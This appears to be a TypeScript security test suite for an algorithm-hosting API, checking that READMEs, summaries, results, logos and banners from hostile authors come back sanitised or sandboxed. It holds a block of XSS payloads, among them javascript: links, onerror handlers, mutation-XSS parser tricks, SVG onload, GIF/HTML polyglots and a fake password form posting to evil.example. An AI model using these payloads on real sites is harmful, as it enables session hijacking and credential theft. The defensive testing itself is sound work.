/**
 * READMEs, summaries, results and pictures of authors who mean ill, pushed and sent through the front door: what comes
 * back must be harmless in a browser that is signed in (design.md 7).
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { setTimeout as delay } from 'node:timers/promises'
import { type Account, createAccount } from '../lib/accounts.ts'
import { createAlgorithm, publish, pushGreen, type Workshop } from '../lib/algorithms.ts'
import type { Json } from '../lib/curl.ts'
import { startTarget, type Target } from '../lib/server.ts'
import { jsonOf, send, type WireOptions, type WireReply } from '../lib/wire.ts'
import { assertContained, assertHarmlessHtml, assertSandboxed, headerOf } from './contained.ts'

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
const PAGE = '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'

const HOSTILE_README = `# Title <script>alert(1)</script>

<img src=x onerror=alert(2)> <img src="http://evil.example/pixel.gif"> <img src="data:image/svg+xml,${SVG}">
[a](javascript:alert(3)) [b](java&#115;cript:alert(4)) <a href=" &#1;javascript:alert(5)">c</a> [d](https://ok.example)

${SVG}

<form action="https://evil.example" method="post"><input name="password"><button>Sign in</button></form>
<iframe srcdoc="<script>alert(6)</script>"></iframe><object data="x"></object><embed src="x">
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
<style>body{display:none}</style><div style="position:fixed;inset:0" id="app" name="token">cover</div>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(8)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(9)>">
`

/** Returns what its input asks for, as text or as bytes. */
const SOURCE = `def apply(input):
    if "text" in input:
        return input["text"]
    if "bytes" in input:
        return input["bytes"].encode()
    raise Exception(input["error"])
`

describe('content of authors', { timeout: 300_000 }, () => {
  let target: Target
  let owner: Account
  let shop: Workshop
  let path: string

  before(async () => {
    target = await startTarget()
    owner = await createAccount(target, 'author')
    shop = (await createAlgorithm(target, owner, { name: 'Hostile', language: 'python3' })).shop
    path = `/v1/algorithms/${owner.username}/Hostile`
    await pushGreen(shop, { 'src/Hostile.py': SOURCE, 'requirements.txt': '', 'README.md': HOSTILE_README })
    await publish(shop, { settings: { algorithm_callability: 'public' } })
  })
  after(() => target?.close())

  const ask = (line: string, options: WireOptions = {}): Promise<WireReply> =>
    send(target.url, line, { key: owner.key, ...options })

  const call = (json: Json, query = '', headers: Record<string, string> = {}): Promise<WireReply> =>
    ask(`POST /v1/algo/${owner.username}/Hostile${query}`, { json, headers })

  describe('READMEs and summaries', () => {
    /** Every reply that shows the algorithm. */
    async function shownDetails(): Promise<Json[]> {
      const [plain, version, versions] = await Promise.all(
        [path, `${path}/versions/0.1.0`, `${path}/versions`].map((each) => ask(`GET ${each}`)),
      )
      assert.ok(plain && version && versions)
      for (const reply of [plain, version, versions]) assertContained(reply)
      return [jsonOf(plain), jsonOf(version), ...jsonOf(versions).results].map(({ details }) => details)
    }

    test('a pushed README is shown without anything that runs, loads or covers', async () => {
      for (const { summary } of await shownDetails()) {
        assertHarmlessHtml(summary)
        assert.match(summary, /<h1>Title <\/h1>/)
        assert.match(summary, /<a href="https:\/\/ok\.example" rel="nofollow noopener noreferrer">d<\/a>/)
        assert.doesNotMatch(summary, /alert\([1-9]\)[^<]*<\/script|evil\.example/)
      }
    })

    test('a summary, a label and a tagline with tags are as harmless', async () => {
      const details = {
        summary: `${HOSTILE_README}`,
        label: `<b onclick=x>L</b>${SVG}`,
        tagline: `T${PAGE}<img src=x>`,
      }
      const changed = jsonOf(await ask(`PUT ${path}`, { json: { details } }))
      for (const each of [changed.details, ...(await shownDetails())]) {
        assertHarmlessHtml(each.summary)
        assert.deepEqual([each.label, each.tagline], ['L', 'T'])
      }
    })

    test('what only looks like tags stays as it was given', async () => {
      const details = { summary: 'a < b, & *so on*', label: 'x<3', tagline: 'Tom & "Jerry" > all' }
      assert.deepEqual(jsonOf(await ask(`PUT ${path}`, { json: { details } })).details, details)
    })

    test('texts that keep parsers busy keep nobody waiting', async () => {
      const summary = '<b><i>'.repeat(40_000)
      let isDone = false
      const changing = ask(`PUT ${path}`, { json: { details: { summary } } }).finally(() => {
        isDone = true
      })
      let answered = 0
      while (!isDone) {
        assert.equal((await send(target.url, 'GET /health')).status, 200)
        answered++
        await delay(5)
      }
      assertHarmlessHtml(jsonOf(await changing).details.summary)
      assert.ok(answered >= 5, `${answered} answers meanwhile`)
      await ask(`PUT ${path}`, { json: { details: { summary: '' } } })
    })
  })

  describe('results', () => {
    for (const [name, content] of Object.entries({
      SVG,
      page: PAGE,
      'byte order': `\ufeff${PAGE}`,
      GIF: `GIF89a${PAGE}`,
    })) {
      test(`${name}: raw text and raw bytes are no page`, async () => {
        const accept = { Accept: 'text/html,image/svg+xml,*/*' }
        const text = await call({ text: content }, '?output=raw', accept)
        assertSandboxed(text)
        assert.match(headerOf(text, 'Content-Type') ?? '', /^text\/plain/)
        const bytes = await call({ bytes: content }, '?output=raw', accept)
        assertSandboxed(bytes)
        assert.equal(headerOf(bytes, 'Content-Disposition'), 'attachment')
        assert.equal(bytes.text, text.text)
        assertSandboxed(await call({ text: content }, '', accept))
        assertSandboxed(await call({ error: content }, '', accept))
        assertSandboxed(await call({ error: content }, '?output=raw', accept))
      })

      test(`${name}: a kept result is no page either`, async () => {
        for (const input of [{ text: content }, { bytes: content }]) {
          const accepted = jsonOf(await call(input, '?output=raw', { Prefer: 'respond-async' }), 202)
          const line = `GET /v1/calls/${accepted.request_id}/result`
          let kept = await ask(line)
          for (let tries = 0; kept.status === 202 && tries < 1000; tries++) {
            await delay(50)
            kept = await ask(line)
          }
          assert.equal(kept.status, 200)
          assertSandboxed(kept)
        }
      })
    }
  })

  describe('pictures and banners', () => {
    const asAdmin = (line: string, options: WireOptions): Promise<WireReply> =>
      ask(line, { key: target.adminKey, ...options })

    function upload(picture: string, content: string, type: string): Promise<WireReply> {
      const file = `Content-Disposition: form-data; name="image"; filename="a"\r\nContent-Type: ${type}`
      const body = Buffer.from(`--x-x-x\r\n${file}\r\n\r\n${content}\r\n--x-x-x--\r\n`, 'latin1')
      return asAdmin(`POST /v1/config/${picture}`, {
        headers: { 'Content-Type': 'multipart/form-data; boundary=x-x-x' },
        body,
      })
    }

    for (const picture of ['logo', 'favicon']) {
      test(`${picture}: SVG and pages are refused, whatever they are said to be`, async () => {
        for (const content of [
          SVG,
          PAGE,
          ` ${SVG}`,
          `\ufeff${SVG}`,
          `<?xml version="1.0"?>${SVG}`,
          `<!-- GIF89a -->${SVG}`,
        ]) {
          for (const type of ['image/svg+xml', 'image/png', 'text/html']) {
            assert.equal((await upload(picture, content, type)).status, 400, content)
          }
        }
        assert.equal((await ask(`GET /v1/config/${picture}`)).status, 303)
      })

      test(`${picture}: a picture that is a page besides is a picture`, async () => {
        assert.equal((await upload(picture, `GIF89a/*${PAGE}*/`, 'text/html')).status, 201)
        const shown = await ask(`GET /v1/config/${picture}`, { headers: { Accept: 'text/html' } })
        assertSandboxed(shown)
        assert.equal(headerOf(shown, 'Content-Type'), 'image/gif')
        await asAdmin(`DELETE /v1/config/${picture}`, {})
      })
    }

    test('a banner keeps its links and nothing that runs, as a text and as JSON', async () => {
      const link = '<a href="https://ok.example" onclick=x>more</a>'
      for (const value of [link + HOSTILE_README, JSON.stringify({ enabled: true, message: link + HOSTILE_README })]) {
        assertContained(await asAdmin('PUT /v1/config/frontend/banner', { json: { value } }))
        const one = await send(target.url, 'GET /v1/config/frontend/banner')
        const listed = await send(target.url, 'GET /v1/config/frontend?limit=1000')
        const { value: shown } = jsonOf(one)
        assert.ok(jsonOf(listed).results.some((entry: Json) => entry.value === shown))
        const html = value.startsWith('{') ? JSON.parse(shown).message : shown
        assertHarmlessHtml(html)
        assert.ok(html.startsWith('<a href="https://ok.example" rel="nofollow noopener noreferrer">more</a>'), html)
      }
      await asAdmin('DELETE /v1/config/frontend/banner', {})
    })
  })

  describe('replies that repeat what was sent', () => {
    const markup = '%3Cscript%3Ealert(1)%3C/script%3E'
    const lines = [
      `GET /${markup}`,
      `GET /v1/algorithms/${markup}/x`,
      `GET /v1/algorithms/x/y/versions?limit=${markup}`,
      `GET /v1/users/${markup}`,
      `POST /v1/algo/${markup}/x/${markup}`,
      `GET /v1/data/${markup}`,
      `GET /v1/data/.my/${markup}.html`,
      `GET /v1/calls/${markup}`,
      `GET /git/${markup}/x.git/info/refs?service=git-upload-pack`,
      'GET /health',
      'GET /metrics',
      'GET /v1/scms',
      'FOO / HTTP/1.1',
    ]
    for (const line of lines) {
      test(line, async () => {
        for (const key of [owner.key, 'unknown', '']) {
          const reply = await ask(line, { key, headers: { Accept: 'text/html' } })
          assertContained(reply)
          assert.doesNotMatch(headerOf(reply, 'Content-Type') ?? '', /html|svg|xml/)
        }
      })
    }

    test('the page that is ours loads and runs nothing', async () => {
      const page = await ask('GET /docs')
      assert.equal(headerOf(page, 'X-Content-Type-Options'), 'nosniff')
      const policy = headerOf(page, 'Content-Security-Policy') ?? ''
      for (const rule of ["default-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"]) {
        assert.ok(policy.includes(rule), rule)
      }
      assert.doesNotMatch(policy, /script-src/)
    })
  })
})
